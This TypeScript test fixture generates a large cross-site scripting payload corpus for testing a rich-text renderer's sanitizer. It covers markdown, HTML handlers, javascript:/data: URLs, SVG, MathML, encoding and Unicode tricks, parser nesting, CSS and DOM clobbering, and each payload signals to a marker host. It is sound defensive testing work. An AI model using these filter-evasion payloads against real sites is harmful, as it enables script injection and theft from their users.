// The XSS corpus pushed through the rich-text renderer (tests/unit/rich-text) and the console's
// write path onto public pages (tests/e2e/xss.spec.ts). Each payload, if it ever ran, gives itself
// away: a dialog or a console line reading `XSS-<id>`, a request to http://xss.invalid/<id> (fetch,
// beacon, image, navigation, or a resource the policy forbids: a stylesheet, a frame, a base URL, a
// CSS url()), or `window.__xss` set (by script, or by an element named so: DOM clobbering, which on
// __next_f also breaks the page's scripts). Nothing in the corpus asks for what the policy allows
// on purpose (an <img> or <video poster> from any http host), so a request to the marker host
// always means a payload got through.

export const MARKER_HOST = 'xss.invalid';
const HOST = `http://${MARKER_HOST}`;

export type PayloadKind =
  | 'markdown-link'
  | 'markdown-image'
  | 'markdown-reference'
  | 'markdown-misc'
  | 'html-handler'
  | 'html-url'
  | 'svg'
  | 'mathml'
  | 'entity'
  | 'unicode'
  | 'nesting'
  | 'code'
  | 'element'
  | 'css'
  | 'clobbering';

export type Payload = { id: string; kind: PayloadKind; source: string };

/** The signals a payload's script may give, rotated so every kind of watcher is exercised. */
const signals: ((id: string) => string)[] = [
  (id) => `alert('XSS-${id}')`,
  (id) => `confirm('XSS-${id}')`,
  (id) => `prompt('XSS-${id}')`,
  (id) => `console.log('XSS-${id}')`,
  (id) => `fetch('${HOST}/${id}')`,
  (id) => `navigator.sendBeacon('${HOST}/${id}')`,
  (id) => `new Image().src='${HOST}/${id}'`,
  (id) => `window.__xss='${id}'`,
  (id) => `location='${HOST}/${id}'`,
];

/** What a builder gets: the payload's signal code (spaceless too), its id and its marker URL. */
type Ctx = { s: string; ns: string; id: string; url: string };
type Builder = (c: Ctx) => string;

// Encoders for the encoding tricks.
const hex = (text: string) =>
  [...text].map((ch) => `&#x${ch.codePointAt(0)!.toString(16)};`).join('');
const dec = (text: string) => [...text].map((ch) => `&#${ch.codePointAt(0)};`).join('');
/** Decimal references without semicolons, zero-padded (`&#0000106`), as old filters missed. */
const padded = (text: string) =>
  [...text].map((ch) => `&#${String(ch.codePointAt(0)).padStart(7, '0')}`).join('');
const pct = (text: string) =>
  [...new TextEncoder().encode(text)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');
const b64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');
/** The scheme with a character between its letters (tab, newline, entity …). */
const split = (sep: string) => `java${sep}script:`;
/** An HTML document that signals when opened (for data: URLs and srcdoc). */
const doc = ({ s }: Ctx) => `<script>${s}</script>`;
const svgDoc = ({ s }: Ctx) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${s}"/>`;

const groups: Record<PayloadKind, Builder[]> = {
  'markdown-link': [
    ({ ns }) => `[click](javascript:${ns})`,
    ({ ns }) => `[click](JaVaScRiPt:${ns})`,
    ({ ns }) => `[click](JAVASCRIPT:${ns})`,
    ({ ns }) => `[click]( javascript:${ns} )`,
    ({ s }) => `[click](<javascript:${s}>)`,
    ({ ns }) => `[click](<java\tscript:${ns}>)`,
    ({ ns }) => `[click](java\tscript:${ns})`,
    ({ ns }) => `[click](java\nscript:${ns})`,
    ({ ns }) => `[click](\x01javascript:${ns})`,
    ({ ns }) => `[click](&#106;avascript:${ns})`,
    ({ ns }) => `[click](&#x6A;avascript:${ns})`,
    ({ ns }) => `[click](javascript&colon;${ns})`,
    ({ ns }) => `[click](java&Tab;script:${ns})`,
    ({ ns }) => `[click](java&NewLine;script:${ns})`,
    ({ ns }) => `[click](${hex('javascript:')}${ns})`,
    ({ ns }) => `[click](${pct('javascript:')}${ns})`,
    ({ ns }) => `[click](javascript%3A${ns})`,
    ({ ns }) => `[click](javascript://%0A${ns})`,
    ({ ns }) => `[click](javascript:/**/${ns})`,
    ({ ns }) => `[click](javascript\\:${ns})`,
    ({ id }) => `[click](vbscript:MsgBox("XSS-${id}"))`,
    ({ id }) => `[click](VbScRiPt:MsgBox("XSS-${id}"))`,
    (c) => `[click](data:text/html;base64,${b64(doc(c))})`,
    (c) => `[click](DATA:text/html;base64,${b64(doc(c))})`,
    (c) => `[click](data:image/svg+xml;base64,${b64(svgDoc(c))})`,
    (c) => `[click](data:text/html,${pct(doc(c))})`,
    ({ ns }) => `[click](file:///etc/passwd#${ns})`,
    ({ s }) => `[click](https://ok.example "title\\" onmouseover=\\"${s}")`,
    ({ s }) => `[click](https://ok.example 'x" onfocus="${s}" autofocus="')`,
    ({ s }) => `[<img src=x onerror="${s}">](https://ok.example)`,
    ({ s }) => `[click](#" onclick="${s})`,
    ({ ns }) => `[click](jAvAsCrIpT&#58;${ns})`,
  ],
  'markdown-image': [
    ({ ns }) => `![alt](javascript:${ns})`,
    (c) => `![alt](data:image/svg+xml;base64,${b64(svgDoc(c))})`,
    (c) => `![alt](data:text/html;base64,${b64(doc(c))})`,
    ({ s }) => `![alt](x" onerror="${s})`,
    ({ s }) => `![alt](https://ok.example/x.png "t\\" onerror=\\"${s}")`,
    ({ s }) => `![alt" onerror="${s}](missing.png)`,
    ({ ns }) => `![alt](&#x6A;avascript:${ns})`,
    (c) => `![alt](data:image/png;base64,${b64(doc(c))}" onload="${c.s})`,
    ({ s }) => `![<img src=x onerror="${s}">](missing.png)`,
    ({ ns }) => `[![alt](missing.png)](javascript:${ns})`,
  ],
  'markdown-reference': [
    ({ ns }) => `[click][r]\n\n[r]: javascript:${ns}`,
    ({ s }) => `[click][r]\n\n[r]: <javascript:${s}> "title"`,
    ({ ns }) => `[click][r]\n\n[r]: &#x6A;avascript:${ns}`,
    ({ ns }) => `[click]\n\n[click]: JaVaScRiPt:${ns}`,
    ({ ns }) => `![alt][i]\n\n[i]: javascript:${ns}`,
    (c) => `[click][r]\n\n[r]: data:text/html;base64,${b64(doc(c))}`,
    ({ s }) => `[click][r]\n\n[r]: https://ok.example "x\\" onmouseover=\\"${s}"`,
    ({ s }) => `<javascript:${s}>`,
    ({ ns }) => `<JAVASCRIPT:${ns}>`,
    ({ ns }) => `<vbscript:${ns}>`,
    (c) => `<data:text/html;base64,${b64(doc(c))}>`,
    ({ ns }) => `javascript:${ns}`,
    ({ id }) => `www.${MARKER_HOST}/${id}?"onmouseover="alert('XSS-${id}')`,
  ],
  'markdown-misc': [
    ({ s }) => `# <img src=x onerror="${s}"> heading`,
    ({ s }) => `Heading <img src=x onerror="${s}">\n===`,
    ({ s }) => `*<img src=x onerror="${s}">* and **<svg onload="${s}">**`,
    ({ s }) =>
      `| a | b |\n|---|---|\n| <img src=x onerror="${s}"> | <a href="javascript:${s}">x</a> |`,
    ({ s }) => `- item\n- <img src=x onerror="${s}">\n  - <details open ontoggle="${s}">`,
    ({ s }) => `> > > <img src=x onerror="${s}">`,
    ({ s }) => `${'> '.repeat(120)}<img src=x onerror="${s}">`,
    ({ s }) => `1. <script>${s}</script>`,
    ({ s }) => `\\<script\\>${s}\\</script\\>`,
    ({ s }) => `"<img src=x onerror='${s}'>" -- (c) ...`,
    ({ s }) => `<div>\n\n<img src=x onerror="${s}">\n\n</div>`,
    ({ s }) => `<div markdown="1">[x](javascript:${s})</div>`,
  ],
  'html-handler': [
    ({ s }) => `<img src=x onerror="${s}">`,
    ({ ns }) => `<img src=x onerror=${ns}>`,
    ({ ns }) => `<img/src="x"/onerror=${ns}>`,
    ({ ns }) => `<img src=x onerror\n=${ns}>`,
    ({ ns }) => `<IMG SRC=x ONERROR=${ns}>`,
    ({ s }) => `<img src="x" onerror="${s}" >`,
    ({ s }) => `<img src=x onerror=${hex(s)}>`,
    ({ s }) => `<img src=x onerror="${dec(s)}">`,
    ({ s }) => `<img src=x oNeRrOr="${s}">`,
    ({ s }) => `<img src=x onerror  =  '${s.replace(/'/g, '"')}'>`,
    ({ ns }) => `<body onload=${ns}>`,
    ({ s }) => `<input autofocus onfocus="${s}">`,
    ({ s }) => `<select autofocus onfocus="${s}"></select>`,
    ({ s }) => `<textarea autofocus onfocus="${s}"></textarea>`,
    ({ s }) => `<details open ontoggle="${s}"><summary>x</summary></details>`,
    ({ s }) => `<video><source onerror="${s}"></video>`,
    ({ s }) => `<video src=x onerror="${s}"></video>`,
    ({ s }) => `<audio src=x onerror="${s}"></audio>`,
    ({ s }) => `<marquee onstart="${s}">x</marquee>`,
    ({ s }) => `<p onmouseover="${s}" style="position:fixed;inset:0">cover</p>`,
    ({ s }) => `<div onpointerenter="${s}">x</div>`,
    ({ s }) => `<a href="https://ok.example" onclick="${s}">x</a>`,
    ({ s }) => `<a href="#" onfocus="${s}" autofocus tabindex=1 id=x>x</a>`,
    ({ s }) => `<th style="text-align:center" onclick="${s}">x</th>`,
    ({ s }) => `<code class="language-js" onmouseover="${s}">x</code>`,
    ({ s }) => `<div contenteditable onbeforeinput="${s}">x</div>`,
    ({ s }) => `<span style="animation-name:x" onanimationstart="${s}">x</span>`,
    ({ s }) => `<img src=x onerror="${s}" a=">`,
    ({ s }) => `<image src=x onerror="${s}">`,
    ({ s }) => `<x onclick="${s}">x</x>`,
  ],
  'html-url': [
    ({ s }) => `<a href="javascript:${s}">x</a>`,
    ({ ns }) => `<a href=javascript:${ns}>x</a>`,
    ({ s }) => `<a href='javascript:${s.replace(/'/g, '"')}'>x</a>`,
    ({ s }) => `<a href="  javascript:${s}">x</a>`,
    ({ s }) => `<a href="${split('&#x09;')}${s}">x</a>`,
    ({ s }) => `<a href="${split('&#x0A;')}${s}">x</a>`,
    ({ s }) => `<a href="${split('&#x0D;')}${s}">x</a>`,
    ({ s }) => `<a href="${split('&NewLine;')}${s}">x</a>`,
    ({ s }) => `<a href="javascript&colon;${s}">x</a>`,
    ({ s }) => `<a href="javascript&#58;${s}">x</a>`,
    ({ s }) => `<a href="javascript&#x3A;${s}">x</a>`,
    ({ s }) => `<a href="${hex('javascript:')}${s}">x</a>`,
    ({ s }) => `<a href="${dec(`javascript:${s}`)}">x</a>`,
    ({ s }) => `<a href="${padded(`javascript:${s}`)}">x</a>`,
    ({ s }) => `<a href="&#1;javascript:${s}">x</a>`,
    ({ s }) => `<a href="&#x20;javascript:${s}">x</a>`,
    ({ s }) => `<a href="${pct('javascript:')}${s}">x</a>`,
    ({ id }) => `<a href="vbscript:MsgBox(&quot;XSS-${id}&quot;)">x</a>`,
    (c) => `<a href="data:text/html;base64,${b64(doc(c))}">x</a>`,
    (c) => `<a href="data:text/html,${doc(c).replace(/"/g, '&quot;')}">x</a>`,
    (c) => `<a href="data:image/png;base64,iVBORw0KGgo=#${c.ns}">x</a>`,
    ({ s }) => `<img src="javascript:${s}">`,
    (c) => `<img src="data:image/svg+xml;base64,${b64(svgDoc(c))}">`,
    (c) => `<img src="data:text/html;base64,${b64(doc(c))}">`,
    (c) => `<img src="DATA:image/svg+xml,${pct(svgDoc(c))}">`,
    ({ url }) => `<img src=x srcset="${url} 2x">`,
    ({ s }) => `<picture><source srcset="javascript:${s}"><img src=x></picture>`,
    (c) =>
      `<picture><source srcset="data:image/svg+xml;base64,${b64(svgDoc(c))}"><img src=x></picture>`,
    ({ s }) => `<video poster="javascript:${s}" src="javascript:${s}"></video>`,
    ({ s }) => `<form action="javascript:${s}"><button>go</button></form>`,
    ({ s }) => `<form><button formaction="javascript:${s}">go</button></form>`,
    ({ s }) => `<form id=f></form><button form=f formaction="javascript:${s}">go</button>`,
    ({ url }) => `<form action="${url}"><input type=submit></form>`,
    ({ s }) => `<isindex type=image src=x action="javascript:${s}">`,
    ({ s }) => `<a href="//ok.example" xlink:href="javascript:${s}">x</a>`,
    ({ s }) => `<blockquote cite="javascript:${s}">q</blockquote>`,
    ({ s }) => `<a href="https://ok.example" ping="javascript:${s}">x</a>`,
  ],
  svg: [
    ({ s }) => `<svg onload="${s}">`,
    ({ ns }) => `<svg/onload=${ns}>`,
    ({ s }) => `<svg><script>${s}</script></svg>`,
    ({ s }) => `<svg><script href="data:,${s}"/></svg>`,
    ({ s }) => `<svg><script xlink:href="data:,${s}"></script></svg>`,
    ({ s }) => `<svg><a xlink:href="javascript:${s}"><text x=20 y=20>x</text></a></svg>`,
    ({ s }) => `<svg><a href="javascript:${s}"><text x=20 y=20>x</text></a></svg>`,
    ({ s }) => `<svg><animate onbegin="${s}" attributeName=x dur=1s>`,
    ({ s }) => `<svg><set onbegin="${s}" attributeName=x to=1>`,
    ({ s }) =>
      `<svg><a><set attributeName=href to="javascript:${s}"/><text x=20 y=20>x</text></a></svg>`,
    ({ s }) =>
      `<svg><a><animate attributeName=href values="javascript:${s}"/><text x=20 y=20>x</text></a></svg>`,
    ({ s }) =>
      `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='x' onerror='${s.replace(/'/g, '&quot;')}'/&gt;&lt;/svg&gt;#x"/></svg>`,
    (c) =>
      `<svg><foreignObject><iframe srcdoc="${doc(c).replace(/"/g, '&quot;')}"></iframe></foreignObject></svg>`,
    ({ s }) => `<svg><foreignObject><img src=x onerror="${s}"></foreignObject></svg>`,
    ({ s }) => `<svg><image href=x onerror="${s}"/></svg>`,
    ({ url }) => `<svg><style>@import '${url}';</style></svg>`,
    ({ s }) =>
      `<svg xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load">${s}</handler></svg>`,
    ({ s }) => `<svg><discard onbegin="${s}"/></svg>`,
    ({ s }) => `<svg><title><img src=x onerror="${s}"></title></svg>`,
    ({ s }) => `<svg></p><style><a id="</style><img src=1 onerror=${s}>">`,
    ({ s }) => `<svg><desc><img src=x onerror="${s}"></desc></svg>`,
    ({ url }) => `<svg><feImage href="${url}"/></svg>`,
    ({ s }) =>
      `<svg><animate xlink:href=#x attributeName=href values="javascript:${s}"/><a id=x><text>x</text></a></svg>`,
    ({ s }) => `<svg><iframe><img src=x onerror="${s}"></iframe></svg>`,
    ({ s }) => `<svg><![CDATA[><img src=x onerror="${s}">]]></svg>`,
  ],
  mathml: [
    ({ s }) =>
      `<math><maction actiontype="statusline" xlink:href="javascript:${s}">CLICK<mtext>x</mtext></maction></math>`,
    ({ s }) => `<math href="javascript:${s}"><mi>x</mi></math>`,
    ({ s }) => `<math><mi xlink:href="javascript:${s}">x</mi></math>`,
    ({ s }) => `<math><mtext><table><mglyph><style><img src=x onerror="${s}">`,
    ({ s }) =>
      `<math><annotation-xml encoding="text/html"><img src=x onerror="${s}"></annotation-xml></math>`,
    ({ s }) => `<math><mtext><h1><a><svg><style><img src=x onerror="${s}">`,
    ({ s }) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${s}">`,
    ({ s }) => `<math><style><img src=x onerror="${s}"></style></math>`,
    ({ s }) =>
      `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror='${s.replace(/'/g, '&quot;')}' src=1>">`,
    ({ s }) =>
      `<math><semantics><annotation-xml encoding="application/xhtml+xml"><style><img src=x onerror="${s}">`,
  ],
  entity: [
    ({ s }) => `&lt;script&gt;${s}&lt;/script&gt;`,
    ({ s }) => `&amp;lt;script&amp;gt;${s}&amp;lt;/script&amp;gt;`,
    ({ s }) => `&#60;script&#62;${s}&#60;/script&#62;`,
    ({ s }) => `&#x3C;img src=x onerror="${s}"&#x3E;`,
    ({ s }) => `&LT;img src=x onerror="${s}"&GT;`,
    ({ s }) => `\\u003Cscript\\u003E${s}\\u003C/script\\u003E`,
    ({ s }) => `<a href="javas&#99;ript:${s}">x</a>`,
    ({ s }) => `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${s}">x</a>`,
    ({ s }) => `<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58${s}">x</a>`,
    ({ s }) => `<img src="&#x6A;avascript:${s}">`,
    ({ s }) => `<a title="&quot;&gt;&lt;img src=x onerror=${s.replace(/ /g, '/**/')}&gt;">x</a>`,
    ({ s }) => `<a title='&#39;&#62;&#60;img src=x onerror="${s}"&#62;'>x</a>`,
    ({ s }) => `<img src=x alt="&quot; onerror=&quot;${s}">`,
    ({ s }) => `<a href="https://ok.example/&quot;onmouseover=&quot;${s}">x</a>`,
    ({ s }) => `&#0000060script&#0000062${s}&#0000060/script&#0000062`,
    ({ s }) => `+ADw-script+AD4-${s}+ADw-/script+AD4-`,
    ({ s }) => `%3Cscript%3E${s}%3C%2Fscript%3E`,
    ({ s }) => `%253Cscript%253E${s}%253C/script%253E`,
  ],
  unicode: [
    ({ s }) => `＜script＞${s}＜/script＞`,
    ({ s }) => `<img src=x ｏnerror="${s}">`,
    ({ ns }) => `[click](ｊａｖａｓｃｒｉｐｔ：${ns})`,
    ({ s }) => `<a href="ｊａｖａｓｃｒｉｐｔ:${s}">x</a>`,
    ({ s }) => `<a href="java\u200bscript:${s}">x</a>`,
    ({ ns }) => `[click](java\u200bscript:${ns})`,
    ({ s }) => `<a href="\u200bjavascript:${s}">x</a>`,
    ({ s }) => `<a href="\ufeffjavascript:${s}">x</a>`,
    ({ s }) => `<a href="java\u00adscript:${s}">x</a>`,
    ({ s }) => `<a href="\u202ejavascript:${s}">x</a>`,
    ({ s }) => `<img src=x \u202eonerror="${s}">`,
    ({ s }) => `\u202e<img src=x onerror="${s}">\u202c`,
    ({ s }) => `<scr\u0130pt>${s}</scr\u0130pt>`,
    ({ s }) => `<\u017fcript>${s}</\u017fcript>`,
    ({ s }) => `<ѕcript>${s}</ѕcript>`,
    ({ s }) => `<script\u0000>${s}</script>`,
    ({ s }) => `<img src=x on\u0000error="${s}">`,
    ({ s }) => `<img src=x onerror="${s}"\ud800>`,
    ({ ns }) => `[click](javascript:${ns}\udc00)`,
    ({ s }) => `<a href="\ud83djavascript:${s}">x</a>`,
    ({ s }) => `%C0%BCscript%C0%BE${s}%C0%BC/script%C0%BE`,
    ({ s }) => `\u00c0\u00bcscript\u00c0\u00be${s}\u00c0\u00bc/script\u00c0\u00be`,
    ({ s }) => `%u003Cscript%u003E${s}%u003C/script%u003E`,
    ({ s }) => `<img src=x onerror\u3000="${s}">`,
    ({ s }) => `<img\u000csrc=x\u000conerror="${s}">`,
    ({ s }) => `<img src=x\u000bonerror="${s}">`,
    ({ s }) => `<a href="jav\u0131script:${s}">x</a>`,
    ({ s }) => `<a href="javascrİpt:${s}">x</a>`,
    ({ s }) => `<a href="\u2028javascript:${s}">x</a>`,
    ({ s }) => `<a href="javascript\u2029:${s}">x</a>`,
  ],
  nesting: [
    ({ s }) =>
      `<noscript><p title="</noscript><img src=x onerror=${s.replace(/ /g, '/**/')}>"></noscript>`,
    ({ s }) => `<template><img src=x onerror="${s}"></template>`,
    ({ s }) => `<template><script>${s}</script></template>`,
    ({ s }) => `<!--<img src=x onerror="${s}">-->`,
    ({ s }) => `<!-- --!><img src=x onerror="${s}"> -->`,
    ({ s }) => `<!--><img src=x onerror="${s}">-->`,
    ({ s }) => `<!---><img src=x onerror="${s}">-->`,
    ({ s }) => `<textarea></textarea><img src=x onerror="${s}">`,
    ({ s }) => `</textarea><script>${s}</script>`,
    ({ s }) => `</title><script>${s}</script>`,
    ({ s }) => `</style><img src=x onerror="${s}">`,
    ({ s }) => `</noscript><img src=x onerror="${s}">`,
    ({ s }) => `</script><script>${s}</script>`,
    ({ s }) => `<title><img src=x onerror="${s}"></title>`,
    ({ s }) => `<style><img src=x onerror="${s}"></style>`,
    ({ s }) => `<xmp><p title="</xmp><img src=x onerror=${s.replace(/ /g, '/**/')}>">`,
    ({ s }) => `<plaintext><img src=x onerror="${s}">`,
    ({ s }) => `<iframe><p title="</iframe><img src=x onerror=${s.replace(/ /g, '/**/')}>">`,
    ({ s }) => `<noembed><p title="</noembed><img src=x onerror=${s.replace(/ /g, '/**/')}>">`,
    ({ s }) => `<noframes><p title="</noframes><img src=x onerror=${s.replace(/ /g, '/**/')}>">`,
    ({ ns }) => `<img src=x onerror=${ns}`,
    ({ s }) => `<a href="https://ok.example"><img src=x onerror="${s}"></a>`,
    ({ s }) => `<p title="><img src=x onerror=${s.replace(/ /g, '/**/')}>">x</p>`,
    ({ s }) => `<a href="https://ok.example/"onmouseover="${s}">x</a>`,
    ({ s }) => `<a href='https://ok.example/'onclick='${s.replace(/'/g, '"')}'>x</a>`,
    ({ ns }) => `<a href=https://ok.example/ onclick=${ns}>x</a>`,
    ({ s }) => `<img src="x"/onerror="${s}">`,
    ({ s }) => `<img """><script>${s}</script>">`,
    ({ s }) => `<a href="x\`\` onclick=${s.replace(/ /g, '/**/')}>x</a>`,
    ({ s }) => `<table><td><form><input></form><img src=x onerror="${s}">`,
    ({ s }) => `<select><style></select><img src=x onerror="${s}"></style>`,
    ({ s }) => `<a><a><a><img src=x onerror="${s}">`,
    ({ s }) => `<p>${'<b>'.repeat(60)}<img src=x onerror="${s}">`,
    ({ s }) => `<scr<script>ipt>${s}</scr</script>ipt>`,
    ({ s }) => `<<script>script>${s}<</script>/script>`,
    ({ url }) => `<script/xss src="${url}.js"></script>`,
    ({ url }) => `<SCRIPT SRC=${url}.js></SCRIPT>`,
    ({ s }) => `<<img src=x onerror="${s}">`,
    ({ s }) => `<img src=x onerror="${s}"//<`,
    ({ s }) => `<a href="https://ok.example">x</a ><img src=x onerror="${s}">`,
    ({ s }) => `<![CDATA[<img src=x onerror="${s}">]]>`,
    ({ url }) => `<?xml-stylesheet href="${url}"?>`,
    ({ s }) => `<? foo="><script>${s}</script>">`,
    ({ s }) => `<!DOCTYPE html><img src=x onerror="${s}">`,
    ({ s }) => `<div><div><div></div></div></div></div></div><img src=x onerror="${s}">`,
    ({ s }) =>
      `<ul><li><ol><li><table><caption><img src=x onerror="${s}"></caption></table></li></ol></li></ul>`,
    ({ s }) =>
      `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${s.replace(/ /g, '/**/')} src>">`,
  ],
  code: [
    ({ s }) => `\`<script>${s}</script>\``,
    ({ s }) => `\`<img src=x onerror="${s}">\``,
    ({ s }) => `\`\`\`html\n<script>${s}</script>\n\`\`\``,
    ({ s }) => `\`\`\`js" onmouseover="${s}\nx\n\`\`\``,
    ({ s }) => `\`\`\`<img src=x onerror="${s}">\nx\n\`\`\``,
    ({ s }) => `<code><script>${s}</script></code>`,
    ({ s }) => `<pre><img src=x onerror="${s}"></pre>`,
    ({ s }) => `    <img src=x onerror="${s}">`,
    ({ s }) => `<code class="x" onmouseover="${s}">x</code>`,
    ({ s }) => `\`\` \`<a href="javascript:${s}">\` \`\``,
    ({ s }) => `\`x\`<img src=x onerror="${s}">\``,
    ({ s }) =>
      `<pre><code class="language-&quot;&gt;&lt;img src=x onerror=${s.replace(/ /g, '/**/')}&gt;">x</code></pre>`,
  ],
  element: [
    ({ s }) => `<meta http-equiv="refresh" content="0;url=javascript:${s}">`,
    ({ url }) => `<meta http-equiv="refresh" content="0;url=${url}">`,
    (c) => `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${b64(doc(c))}">`,
    ({ url }) => `<meta http-equiv="refresh" content="0; URL='${url}'">`,
    ({ url }) => `<base href="${url}/">`,
    ({ s }) => `<base href="javascript:${s}//">`,
    ({ url }) => `<link rel="import" href="${url}">`,
    ({ url }) => `<link rel="stylesheet" href="${url}.css">`,
    ({ url }) => `<link rel="preload" as="script" href="${url}.js">`,
    ({ url }) => `<link rel="prefetch" href="${url}">`,
    ({ url }) => `<link rel="modulepreload" href="${url}.js">`,
    ({ s }) => `<iframe src="javascript:${s}"></iframe>`,
    (c) => `<iframe srcdoc="${doc(c).replace(/"/g, '&quot;')}"></iframe>`,
    ({ s }) => `<iframe srcdoc="&lt;img src=x onerror=&quot;${s}&quot;&gt;"></iframe>`,
    ({ url }) => `<iframe src="${url}"></iframe>`,
    ({ ns }) => `<frameset onload=${ns}><frame src="about:blank"></frameset>`,
    ({ url }) => `<frame src="${url}">`,
    ({ s }) => `<object data="javascript:${s}"></object>`,
    ({ url }) => `<object data="${url}"></object>`,
    (c) => `<object data="data:text/html;base64,${b64(doc(c))}"></object>`,
    ({ s }) => `<embed src="javascript:${s}">`,
    ({ url }) => `<embed src="${url}">`,
    (c) => `<embed src="data:image/svg+xml;base64,${b64(svgDoc(c))}">`,
    ({ url }) => `<object type="text/x-scriptlet" data="${url}"></object>`,
    ({ url }) => `<applet code="x" codebase="${url}"></applet>`,
    ({ url }) => `<object><param name="src" value="${url}"></object>`,
    ({ url }) => `<input type="image" src="${url}">`,
    ({ url }) => `<portal src="${url}"></portal>`,
    ({ url }) => `<bgsound src="${url}">`,
    ({ url }) => `<table background="${url}"><tr><td>x</td></tr></table>`,
    ({ url }) => `<table><tr><td background="${url}">x</td></tr></table>`,
    ({ url }) => `<body background="${url}">`,
    ({ url }) => `<img src="x" lowsrc="${url}" dynsrc="${url}">`,
    ({ s }) => `<script>${s}</script>`,
    ({ ns }) => `<script>${ns}</script >`,
  ],
  css: [
    ({ url }) => `<style>@import url(${url});</style>`,
    ({ url }) => `<style>body{background:url(${url})}</style>`,
    ({ s }) => `<style>*{x:expression(${s})}</style>`,
    ({ url }) => `<div style="background-image:url('${url}')">x</div>`,
    ({ url }) => `<td style="text-align:left;background:url(${url})">x</td>`,
    ({ url }) =>
      `<table><tr><td style="text-align:left;background:url(${url})">x</td></tr></table>`,
    ({ url }) =>
      `<table><tr><th style="background:url(${url});text-align:center">x</th></tr></table>`,
    ({ s }) => `<div style="width:expression(${s})">x</div>`,
    ({ s }) => `<p style="background:url(javascript:${s})">x</p>`,
    ({ url }) => `<p style="behavior:url(${url}.htc)">x</p>`,
    ({ url }) => `<p style="-moz-binding:url(${url}.xml#x)">x</p>`,
    ({ url }) =>
      `<table><tr><td style="text-align:center;background:\\75 rl(${url})">x</td></tr></table>`,
    ({ url }) =>
      `<table><tr><td style="text-align:left;/**/background:url(${url})">x</td></tr></table>`,
    ({ url }) =>
      `<table><tr><td style="text-align:left&#59;background:url(${url})">x</td></tr></table>`,
    ({ url }) => `<svg><style>*{background:url(${url})}</style></svg>`,
    ({ url }) => `<style>@font-face{font-family:x;src:url(${url})}</style>`,
  ],
  clobbering: [
    ({ id }) => `<p id="__xss">${id}</p>`,
    ({ id }) => `<a id="__xss" href="https://ok.example/${id}">x</a>`,
    ({ id }) => `<img id="__xss" src="data:image/png;base64,iVBORw0KGgo=" alt="${id}">`,
    ({ id }) => `<img name="__xss" src=x alt="${id}">`,
    ({ id }) => `<form name="__xss"><input name="${id}"></form>`,
    ({ id }) => `<p id="__next_f">${id}</p>`,
    ({ id }) => `<span id="__next_s">${id}</span>`,
    ({ id }) => `<a id="__xss"></a><a id="__xss" name="${id}" href="https://ok.example">x</a>`,
    ({ id }) => `<embed name="__xss" src="x"><object name="${id}"></object>`,
    ({ id }) => `<table id="__xss"><tr><td>${id}</td></tr></table>`,
    ({ id }) => `<h2 id="__xss">${id}</h2>\n\n[jump](#__xss)`,
    ({ id }) => `<img id="__next_f" name="__next_f" src="x" alt="${id}">`,
    ({ id }) => `<b id="__NEXT_DATA__">${id}</b>`,
  ],
};

/** Every payload, ids like `svg-07`, in a stable order; the signals rotate across the corpus. */
export const xssPayloads: Payload[] = (Object.entries(groups) as [PayloadKind, Builder[]][])
  .flatMap(([kind, builders]) => builders.map((build, index) => ({ kind, build, index })))
  .map(({ kind, build, index }, order) => {
    const id = `${kind}-${String(index + 1).padStart(2, '0')}`;
    const s = signals[order % signals.length]!(id);
    const source = build({ s, ns: s.replace(/ /g, '/**/'), id, url: `${HOST}/${id}` });
    return { id, kind, source };
  });
